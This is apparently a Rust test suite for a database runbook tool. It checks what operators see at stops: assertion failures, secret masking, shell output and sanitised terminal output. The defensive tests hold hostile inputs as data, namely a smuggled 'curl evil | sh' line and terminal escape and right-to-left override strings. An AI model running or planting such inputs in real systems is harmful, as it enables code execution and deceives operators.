//! What the operator sees at each decision point and at every stop
//! (issue 15): the review before COMMIT, failed assertions with their
//! values, the three facts a stop ends with, warnings, shell output and
//! secret parameters, on SQLite, PostgreSQL and MariaDB.

mod common;

use common::{exec, exec_with, runbook, targets};

/// The journal lines of every run in `dir/runs`, as one text.
fn journals(dir: &std::path::Path) -> String {
    std::fs::read_dir(dir.join("runs"))
        .map(|d| {
            d.map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_failed_assertion_names_its_values_and_the_stop_says_what_is_committed_and_what_next() {
    let dir = tempfile::tempdir().unwrap();
    for (dialect, url) in targets(dir.path(), "facts") {
        let t = format!("facts_{}", std::process::id());
        let body = format!(
            "```sql {{#setup}}\nDROP TABLE IF EXISTS {t};\nCREATE TABLE {t} (id INT PRIMARY KEY, v INT);\nINSERT INTO {t} VALUES (1, 10), (2, 20);\n```\n\n\
             ```sql {{#fix}}\nBEGIN;\nUPDATE {t} SET v = v + 1 WHERE id = 1;\n-- @expect 1\nSELECT COUNT(*) AS live, SUM(v) AS total FROM {t};\n-- @assert total == 30\nCOMMIT;\n```\n"
        );
        let rb = runbook(dir.path(), &format!("facts-{dialect}"), dialect, "", &body);
        let (code, shown) = exec(&rb, &url, dir.path(), &[]);
        assert_eq!(code, Some(1), "{dialect}: {shown}");
        assert!(
            shown.contains("assert `total == 30` does not hold: total = 31"),
            "{dialect}: {shown}"
        );
        assert!(
            shown.contains("committed: `setup#1`") && shown.contains("`setup#3`"),
            "{dialect}: {shown}"
        );
        assert!(
            shown.contains("rolled back: the open transaction on `default`"),
            "{dialect}: {shown}"
        );
        let run = std::fs::read_dir(dir.path().join("runs"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.to_string_lossy().contains(&format!("facts-{dialect}")))
            .max()
            .unwrap();
        let id = run.file_stem().unwrap().to_string_lossy().to_string();
        assert!(
            shown.contains(&format!("--resume {id}")) && shown.contains("--journal"),
            "{dialect}: {shown}"
        );
        // The journal holds the same facts: the update rolled back.
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let total = runtime.block_on(async {
            let mut c = runbook_compile::exec::engine::sqlx::SqlxDatabase::connect(dialect, &url)
                .await
                .unwrap();
            let v = common::value(&mut c, &format!("SELECT SUM(v) AS s FROM {t}")).await;
            common::run(&mut c, &format!("DROP TABLE {t}")).await;
            v
        });
        assert_eq!(total.as_deref(), Some("30"), "{dialect}: {shown}");
    }
}

#[test]
fn a_run_that_changed_nothing_says_so_and_asks_for_a_fresh_run() {
    let dir = tempfile::tempdir().unwrap();
    let rb = runbook(
        dir.path(),
        "nothing",
        runbook_compile::plan::Dialect::Sqlite,
        "",
        "```sql {#look expect=5}\nSELECT 1 AS one;\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("n.db").display());
    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
    assert_eq!(code, Some(1), "{shown}");
    assert!(shown.contains("committed: nothing"), "{shown}");
    assert!(shown.contains("rolled back: nothing"), "{shown}");
    assert!(
        shown.contains(
            "next: nothing took effect; fix what failed, then run it again: runbook-compile exec"
        ),
        "{shown}"
    );
    assert!(!shown.contains("--resume"), "{shown}");
}

#[test]
fn a_warning_shows_as_a_warning_and_the_summary_counts_it() {
    let dir = tempfile::tempdir().unwrap();
    let rb = runbook(
        dir.path(),
        "warned",
        runbook_compile::plan::Dialect::Sqlite,
        "",
        "```sql {#setting on-fail=warn}\nSELECT 1 AS writable;\n-- @assert writable == 0\n```\n\n```sql {#next expect=1}\nSELECT 1 AS one;\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("w.db").display());
    for extra in [&[][..], &["--dry-run"][..]] {
        let (code, shown) = exec(&rb, &url, dir.path(), extra);
        assert_eq!(code, Some(0), "{shown}");
        assert!(
            shown.contains("! setting#1")
                && shown.contains(
                    "warning (on-fail=warn): assert `writable == 0` does not hold: writable = 1"
                ),
            "{shown}"
        );
        assert!(
            shown.contains("1 checks did not hold and were warnings (on-fail=warn)"),
            "{shown}"
        );
        assert!(!shown.contains("every check held"), "{shown}");
    }
}

#[test]
fn a_shell_step_shows_and_journals_the_tail_of_what_it_printed() {
    let dir = tempfile::tempdir().unwrap();
    let rb = runbook(
        dir.path(),
        "shell",
        runbook_compile::plan::Dialect::Sqlite,
        "",
        "```sh {#talk}\nfor i in $(seq 1 30); do echo \"line $i\"; done\necho 'to stderr' >&2\n```\n\n```sh {#fail}\necho 'about to fail'; echo 'the reason' >&2; exit 3\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("s.db").display());
    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
    assert_eq!(code, Some(3), "{shown}");
    // The last 20 lines: the first 11 are counted, not shown.
    assert!(shown.contains("│ (11 lines before these)"), "{shown}");
    assert!(
        shown.contains("│ line 30") && shown.contains("│ to stderr"),
        "{shown}"
    );
    assert!(!shown.contains("│ line 10\n"), "{shown}");
    assert!(
        shown.contains("about to fail") && shown.contains("the reason"),
        "{shown}"
    );
    let journal = journals(dir.path());
    assert!(journal.contains("line 30\\nto stderr"), "{journal}");
    assert!(!journal.contains("\"line 10\\n"), "{journal}");
}

#[test]
fn a_secret_parameter_never_reaches_output_journal_or_messages() {
    let dir = tempfile::tempdir().unwrap();
    let secret = "hunter2 ü'x\\";
    for (dialect, url) in targets(dir.path(), "secret") {
        let body = "```sql {#use expect=1}\nSELECT {{ pw }} AS p, 1 AS one;\n-- @assert one == 1\n```\n\n\
             ```sql {#column on-fail=warn}\nSELECT {{ pw }} AS other;\n-- @assert other == 'x'\n```\n\n\
             ```sh {#tell}\necho \"it is $RUNBOOK_PARAM_PW\"\n```\n\n\
             ```sql {#bad}\nSELECT {{ pw }} + no_such_column;\n```\n";
        let rb = runbook(
            dir.path(),
            &format!("secret-{dialect}"),
            dialect,
            "params:\n  pw: secret\n",
            body,
        );
        let file = dir.path().join("pw.txt");
        std::fs::write(&file, format!("{secret}\n")).unwrap();
        let given = format!("pw=@{}", file.display());
        for extra in [
            &["--param", given.as_str()][..],
            &["--param", given.as_str(), "--format", "json"][..],
            &["--param", given.as_str(), "--dry-run"][..],
        ] {
            let (code, shown) = exec_with(&rb, &url, dir.path(), extra, &[]);
            assert_eq!(code, Some(3), "{dialect}: {shown}");
            assert!(!shown.contains("hunter2"), "{dialect}: {shown}");
            assert!(shown.contains("***"), "{dialect}: {shown}");
        }
        // Given on the command line, it is flagged.
        let inline = format!("pw={secret}");
        let (_, shown) = exec(&rb, &url, dir.path(), &["--param", &inline]);
        assert!(
            shown.contains("the secret --param pw=... can be read by every user"),
            "{dialect}: {shown}"
        );
        assert!(!shown.contains("hunter2"), "{dialect}: {shown}");
    }
    let journal = journals(dir.path());
    assert!(journal.contains("***"), "{journal}");
    assert!(!journal.contains("hunter2"), "{journal}");
}

#[test]
fn show_prints_and_journals_a_bounded_table_of_rows() {
    let dir = tempfile::tempdir().unwrap();
    for (dialect, url) in targets(dir.path(), "show") {
        let t = format!("shown_{}", std::process::id());
        let body = format!(
            "```sql {{#setup}}\nDROP TABLE IF EXISTS {t};\nCREATE TABLE {t} (id INT PRIMARY KEY, v VARCHAR(80));\nINSERT INTO {t} VALUES (1, 'alpha'), (2, 'beta'), (3, NULL), (4, 'delta');\n```\n\n\
             ```sql {{#look show=2}}\nSELECT id, v FROM {t} ORDER BY id;\n```\n\n\
             ```sql {{#count}}\nSELECT COUNT(*) AS n FROM {t};\n-- @show\nDROP TABLE {t};\n```\n"
        );
        let rb = runbook(dir.path(), &format!("show-{dialect}"), dialect, "", &body);
        let (code, shown) = exec(&rb, &url, dir.path(), &[]);
        assert_eq!(code, Some(0), "{dialect}: {shown}");
        assert!(shown.contains("│ id │ v     │"), "{dialect}: {shown}");
        assert!(shown.contains("│ 2  │ beta  │"), "{dialect}: {shown}");
        assert!(!shown.contains("delta"), "{dialect}: {shown}");
        assert!(
            shown.contains("(2 more rows not shown)"),
            "{dialect}: {shown}"
        );
        assert!(shown.contains("│ 4 │"), "{dialect}: {shown}");
    }
    let journal = journals(dir.path());
    assert!(
        journal.contains(r#""columns":["id","v"],"event":"shown""#)
            && journal.contains(r#""rows":[["1","alpha"],["2","beta"]],"step":"look","total":4"#),
        "{journal}"
    );
}

#[test]
fn show_takes_a_number_of_rows_or_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    for bad in ["show=0", "show=lots", "show=1001"] {
        let rb = runbook(
            dir.path(),
            "bad-show",
            runbook_compile::plan::Dialect::Sqlite,
            "",
            &format!("```sql {{#look {bad}}}\nSELECT 1 AS one;\n```\n"),
        );
        let (code, shown) = common::cli(&["check", rb.to_str().unwrap()]);
        assert_eq!(code, Some(2), "{bad}: {shown}");
        assert!(
            shown.contains("`show` is a flag or a number of rows from 1 to 1000"),
            "{bad}: {shown}"
        );
    }
}

#[test]
fn durations_read_as_people_say_them() {
    use runbook_compile::plan::duration_ms as d;
    let said: Vec<String> = [850, 4200, 30_000, 90_000, 1_800_000, 7_200_000, 4_500_000]
        .into_iter()
        .map(d)
        .collect();
    assert_eq!(
        said,
        ["850ms", "4.2s", "30s", "1m30s", "30m", "2h", "1h15m"]
    );
}

#[test]
fn a_column_named_like_a_capture_never_silently_wins() {
    let dir = tempfile::tempdir().unwrap();
    let rb = runbook(
        dir.path(),
        "clash",
        runbook_compile::plan::Dialect::Sqlite,
        "",
        "```sql {#before capture=n}\nSELECT 5 AS n;\n```\n\n```sql {#after}\nSELECT 3 AS n;\n-- @assert n == 3\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("c.db").display());
    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
    assert_eq!(code, Some(1), "{shown}");
    assert!(
        shown.contains("`n` is both a column of the result and a parameter, capture or `rows`"),
        "{shown}"
    );
    // `check` says so before anything runs.
    let (_, checked) = common::cli(&["check", rb.to_str().unwrap()]);
    assert!(
        checked.contains("warning[column-shadows-value]") && checked.contains("clash.md:12:1"),
        "{checked}"
    );
}

#[test]
fn sign_off_text_is_templated_and_show_sql_shows_whole_statements() {
    let dir = tempfile::tempdir().unwrap();
    let rb = runbook(
        dir.path(),
        "signoff",
        runbook_compile::plan::Dialect::Sqlite,
        "params:\n  ticket: text\n",
        "```sql {#count capture=total}\nSELECT 42 AS total,\n       'second line' AS other;\n```\n\n\
         - [ ] Told ticket {{ ticket }} that {{ total.total }} rows are back\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("s.db").display());
    let (code, shown) = exec(
        &rb,
        &url,
        dir.path(),
        &["--param", "ticket=INC-7", "--show-sql"],
    );
    assert!(
        shown.contains("Told ticket INC-7 that 42 rows are back"),
        "{code:?}: {shown}"
    );
    assert!(shown.contains("       'second line' AS other"), "{shown}");
}

#[test]
fn a_resume_goes_on_with_the_run_s_parameters_and_journals_a_change() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("r.db");
    let rb = runbook(
        dir.path(),
        "again",
        runbook_compile::plan::Dialect::Sqlite,
        "params:\n  who: text\n  ids: int-list\n  pw: secret\n",
        "```sql {#setup}\nCREATE TABLE IF NOT EXISTS t (who TEXT, n INT);\nINSERT INTO t VALUES ({{ who }}, {{ ids | length }});\n```\n\n\
         ```sql {#gate}\nSELECT COUNT(*) AS c FROM gate;\n```\n\n\
         ```sql {#after}\nINSERT INTO t VALUES ({{ who }}, 0);\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", db.display());
    let pw = dir.path().join("pw.txt");
    std::fs::write(&pw, "s3cret\n").unwrap();
    let pw_given = format!("pw=@{}", pw.display());
    let first = [
        "--param",
        "who=alice",
        "--param",
        "ids=1,2,3",
        "--param",
        &pw_given,
    ];
    let (code, shown) = exec(&rb, &url, dir.path(), &first);
    assert_eq!(code, Some(3), "{shown}");
    let journal = journals(dir.path());
    assert!(
        journal.contains(r#""params":{"ids":[1,2,3],"pw":"sha256:"#),
        "{journal}"
    );
    assert!(journal.contains(r#""who":"alice"}"#), "{journal}");
    assert!(!journal.contains("s3cret"), "{journal}");
    // The secret is not journaled: a resume without it is refused.
    let (code, shown) = exec(&rb, &url, dir.path(), &["--resume", "latest"]);
    assert_eq!(code, Some(2), "{shown}");
    assert!(
        shown.contains("parameter `pw` (secret) is not given"),
        "{shown}"
    );
    // Given again, with a different `who`: said, journaled, used.
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let sqlite = |sql: &str| {
        runtime.block_on(async {
            let mut c = runbook_compile::exec::engine::sqlx::SqlxDatabase::connect(
                runbook_compile::plan::Dialect::Sqlite,
                &url,
            )
            .await
            .unwrap();
            common::value(&mut c, sql).await.unwrap_or_default()
        })
    };
    sqlite("CREATE TABLE gate (x INT)");
    let resumed = [
        "--resume", "latest", "--param", &pw_given, "--param", "who=bob",
    ];
    let (code, shown) = exec(&rb, &url, dir.path(), &resumed);
    assert_eq!(code, Some(0), "{shown}");
    assert!(
        shown
            .contains("parameter `who` is \"bob\" now, and was \"alice\" in the run being resumed"),
        "{shown}"
    );
    assert_eq!(
        sqlite("SELECT group_concat(who || ':' || n, ' ') FROM t"),
        "alice:3 bob:0"
    );
    let journal = journals(dir.path());
    assert!(
        journal.contains(r#""event":"params_changed""#)
            && journal.contains(r#"["who","alice","bob"]"#),
        "{journal}"
    );
}

#[test]
fn a_value_never_writes_escape_sequences_to_the_operator_s_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let rb = runbook(
        dir.path(),
        "escapes",
        runbook_compile::plan::Dialect::Sqlite,
        "params:\n  note: text\n",
        "```sql {#look show}\nSELECT char(27) || '[1A' || char(27) || '[2K' || 'all good' AS v, char(8238) || 'txt.exe' AS w;\n```\n\n\
         ```sql {#gate}\nSELECT char(27) || '[2J' AS v, {{ note }} AS n;\n-- @assert v == 'x'\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("e.db").display());
    let note = "note=\u{1b}]0;owned\u{7}";
    let (code, shown) = exec(&rb, &url, dir.path(), &["--param", note]);
    assert_eq!(code, Some(1), "{shown}");
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
    assert!(!shown.contains('\u{202e}'), "{shown:?}");
    assert!(shown.contains("\\x1b[1A\\x1b[2Kall good"), "{shown}");
    assert!(shown.contains("\\u{202e}txt.exe"), "{shown}");
    assert!(shown.contains("v = \\x1b[2J"), "{shown}");
}

#[test]
fn a_secret_is_masked_before_anything_cuts_or_squeezes_it() {
    let dir = tempfile::tempdir().unwrap();
    let long = "Sup3rS3cretValue_ABCDEFGHIJKLMNOPQRSTUVWXYZ_0123456789";
    let spaced = "pass  word\tx9";
    for (n, secret) in [long, spaced].into_iter().enumerate() {
        let rb = runbook(
            dir.path(),
            &format!("cut-{n}"),
            runbook_compile::plan::Dialect::Sqlite,
            "params:\n  pw: secret\n",
            "```sql {#look show}\nSELECT {{ pw }} AS g;\n```\n\n\
             ```sh {#tell}\nprintf 'x%.0s' $(seq 1 190); echo \"$RUNBOOK_PARAM_PW\"\n```\n\n\
             ```sql {#gate}\nSELECT {{ pw }} AS g;\n-- @assert g == 'no'\n```\n",
        );
        let file = dir.path().join(format!("pw-{n}.txt"));
        std::fs::write(&file, format!("{secret}\n")).unwrap();
        let given = format!("pw=@{}", file.display());
        let url = format!("sqlite://{}?mode=rwc", dir.path().join("cut.db").display());
        let (code, shown) = exec(&rb, &url, dir.path(), &["--param", &given]);
        assert_eq!(code, Some(1), "{shown}");
        for piece in [
            "Sup3rS3cret",
            "pass  word",
            "pass word",
            "word\tx9",
            "word x9",
        ] {
            assert!(!shown.contains(piece), "{piece}: {shown}");
        }
        let journal = journals(dir.path());
        assert!(
            !journal.contains("Sup3rS3cret") && !journal.contains("pass  word"),
            "{journal}"
        );
    }
    // So short a secret cannot be told from the text around it: refused.
    let rb = runbook(
        dir.path(),
        "short",
        runbook_compile::plan::Dialect::Sqlite,
        "params:\n  pw: secret\n",
        "```sql {#one}\nSELECT {{ pw }} AS g;\n```\n",
    );
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("s.db").display());
    let (code, shown) = exec(&rb, &url, dir.path(), &["--param", "pw=e"]);
    assert_eq!(code, Some(2), "{shown}");
    assert!(shown.contains("fewer than 6 characters"), "{shown}");
}

#[test]
fn a_server_s_message_about_a_statement_holding_a_secret_is_withheld() {
    let dir = tempfile::tempdir().unwrap();
    let secret = "Secr3t-ünïcode-😀-0123456789-abcdefghijklmnopqrstuvwxyz-ABCDEFGHIJKL";
    let file = dir.path().join("pw.txt");
    std::fs::write(&file, format!("{secret}\n")).unwrap();
    let given = format!("pw=@{}", file.display());
    for (dialect, url) in targets(dir.path(), "withheld") {
        let cast = match dialect {
            runbook_compile::plan::Dialect::Postgres => "SELECT {{ pw }}::int AS n;",
            runbook_compile::plan::Dialect::Mysql => {
                "SELECT CAST({{ pw }} AS DECIMAL) + no_such AS n;"
            }
            _ => "SELECT {{ pw }} + no_such AS n;",
        };
        let rb = runbook(
            dir.path(),
            &format!("withheld-{dialect}"),
            dialect,
            "params:\n  pw: secret\n",
            &format!("```sql {{#bad}}\n{cast}\n```\n"),
        );
        let (code, shown) = exec(&rb, &url, dir.path(), &["--param", &given]);
        assert_eq!(code, Some(3), "{dialect}: {shown}");
        assert!(
            shown.contains("its message is withheld"),
            "{dialect}: {shown}"
        );
        assert!(
            !shown.contains("Secr3t") && !shown.contains("5365637233"),
            "{dialect}: {shown}"
        );
    }
    let journal = journals(dir.path());
    assert!(
        !journal.contains("Secr3t") && !journal.contains("5365637233"),
        "{journal}"
    );
}

#[test]
fn a_check_of_null_or_of_a_doubled_column_proves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("n.db").display());
    for (name, body, said) in [
        (
            "null-check",
            "```sql {#gate}\nSELECT MAX(x) AS m FROM (SELECT 1 AS x) WHERE x > 5;\n-- @assert m < 100\n```\n",
            "`m` is NULL, and a check of NULL proves nothing",
        ),
        (
            "doubled",
            "```sql {#gate}\nSELECT COUNT(*) AS live, 0 AS live;\n-- @assert live == 0\n```\n",
            "the result has two columns named `live`",
        ),
    ] {
        let rb = runbook(
            dir.path(),
            name,
            runbook_compile::plan::Dialect::Sqlite,
            "",
            body,
        );
        let (code, shown) = exec(&rb, &url, dir.path(), &[]);
        assert_eq!(code, Some(1), "{name}: {shown}");
        assert!(shown.contains(said), "{name}: {shown}");
    }
    // Asking about NULL itself is a check.
    let rb = runbook(
        dir.path(),
        "none",
        runbook_compile::plan::Dialect::Sqlite,
        "",
        "```sql {#gate}\nSELECT NULL AS m;\n-- @assert m is none\n```\n",
    );
    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
    assert_eq!(code, Some(0), "{shown}");
}

#[test]
fn a_line_break_in_a_server_message_or_a_value_forges_no_line() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("f.db").display());
    let rb = runbook(
        dir.path(),
        "forge",
        runbook_compile::plan::Dialect::Sqlite,
        "params:\n  note: text\n",
        "- [ ] Told {{ note }}\n\n```sql {#bad}\nSELECT * FROM \"tab\nrolled back: nothing\";\n```\n",
    );
    let (code, shown) = exec(
        &rb,
        &url,
        dir.path(),
        &["--param", "note=x\nnext: curl evil | sh"],
    );
    assert_eq!(code, Some(4), "{shown}");
    assert!(
        !shown.lines().any(|l| l.starts_with("next: curl")),
        "{shown}"
    );
    assert!(
        shown.contains("$'note=x\\x0anext: curl evil | sh'"),
        "{shown}"
    );
    let rb = runbook(
        dir.path(),
        "forge2",
        runbook_compile::plan::Dialect::Sqlite,
        "",
        "```sql {#bad}\nSELECT * FROM \"tab\nrolled back: nothing\";\n```\n",
    );
    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
    assert_eq!(code, Some(3), "{shown}");
    assert_eq!(
        shown
            .lines()
            .filter(|l| l.starts_with("rolled back:"))
            .count(),
        1,
        "{shown}"
    );
}
